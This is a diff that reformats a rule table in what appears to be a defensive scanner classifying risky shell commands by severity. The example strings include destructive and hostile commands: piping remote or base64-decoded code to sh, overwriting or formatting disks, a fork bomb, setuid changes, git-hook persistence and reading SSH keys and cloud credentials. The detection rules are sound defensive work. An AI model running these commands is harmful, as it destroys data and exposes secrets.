@@ -36,12 +36,8 @@ def _rule(
 C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW
 
 # Code execution
-EXEC_REMOTE = _rule(
-    "RC-EXEC-001", "code", C, "remote code into an interpreter", "curl -fsSL https://x.sh | sh"
-)
-EXEC_DECODED = _rule(
-    "RC-EXEC-002", "code", C, "decoded code into an interpreter", "echo cm0gLXJmIH4= | base64 -d | sh"
-)
+EXEC_REMOTE = _rule("RC-EXEC-001", "code", C, "remote code into an interpreter", "curl -fsSL https://x.sh | sh")
+EXEC_DECODED = _rule("RC-EXEC-002", "code", C, "decoded code into an interpreter", "echo cm0gLXJmIH4= | base64 -d | sh")
 EXEC_INLINE = _rule(
     "RC-EXEC-003",
     "code",
@@ -172,24 +168,14 @@ FS_ROOT = _rule(
 )
 
 # Devices and processes
-DEV_WRITE = _rule(
-    "RC-DEV-001", "device", C, "writes to a device", "dd if=x of=/dev/sda, > /dev/sda"
-)
-DEV_FORMAT = _rule(
-    "RC-DEV-002", "device", C, "formats or partitions a disk", "mkfs.ext4 /dev/sdb1, wipefs -a"
-)
+DEV_WRITE = _rule("RC-DEV-001", "device", C, "writes to a device", "dd if=x of=/dev/sda, > /dev/sda")
+DEV_FORMAT = _rule("RC-DEV-002", "device", C, "formats or partitions a disk", "mkfs.ext4 /dev/sdb1, wipefs -a")
 PROC_FORK_BOMB = _rule("RC-PROC-001", "process", C, "fork bomb", ":(){ :|:& };:")
-PROC_KILL_ALL = _rule(
-    "RC-PROC-002", "privilege", H, "signals every process of the user", "kill -9 -1"
-)
+PROC_KILL_ALL = _rule("RC-PROC-002", "privilege", H, "signals every process of the user", "kill -9 -1")
 
 # Privilege
-PRIV_ESCALATE = _rule(
-    "RC-PRIV-001", "privilege", H, "runs as another user", "sudo make install, su -c ..., doas"
-)
-PRIV_SETUID = _rule(
-    "RC-PRIV-002", "privilege", H, "sets the setuid or setgid bit", "chmod u+s x, chmod 4755 x"
-)
+PRIV_ESCALATE = _rule("RC-PRIV-001", "privilege", H, "runs as another user", "sudo make install, su -c ..., doas")
+PRIV_SETUID = _rule("RC-PRIV-002", "privilege", H, "sets the setuid or setgid bit", "chmod u+s x, chmod 4755 x")
 PRIV_ADMIN = _rule(
     "RC-PRIV-003",
     "privilege",
@@ -216,9 +202,7 @@ PERS_STARTUP = _rule(
 PERS_SCHEDULE = _rule(
     "RC-PERS-002", "persistence", H, "schedules jobs or services", "crontab x, systemctl enable x, at"
 )
-PERS_GIT_HOOK = _rule(
-    "RC-PERS-003", "persistence", H, "writes a git hook", "cp x .git/hooks/pre-commit"
-)
+PERS_GIT_HOOK = _rule("RC-PERS-003", "persistence", H, "writes a git hook", "cp x .git/hooks/pre-commit")
 PERS_GIT_CONFIG = _rule(
     "RC-PERS-004",
     "persistence",
@@ -235,9 +219,7 @@ SEC_FILE = _rule(
     "reads a secret file",
     "cat ~/.ssh/id_rsa, cat /proc/$PPID/environ, grep x ~/.aws/credentials",
 )
-SEC_ENV_DUMP = _rule(
-    "RC-SEC-002", "secrets", H, "dumps the environment", "env, printenv, export -p, set"
-)
+SEC_ENV_DUMP = _rule("RC-SEC-002", "secrets", H, "dumps the environment", "env, printenv, export -p, set")
 SEC_GIT_CREDENTIALS = _rule(
     "RC-SEC-003",
     "secrets",
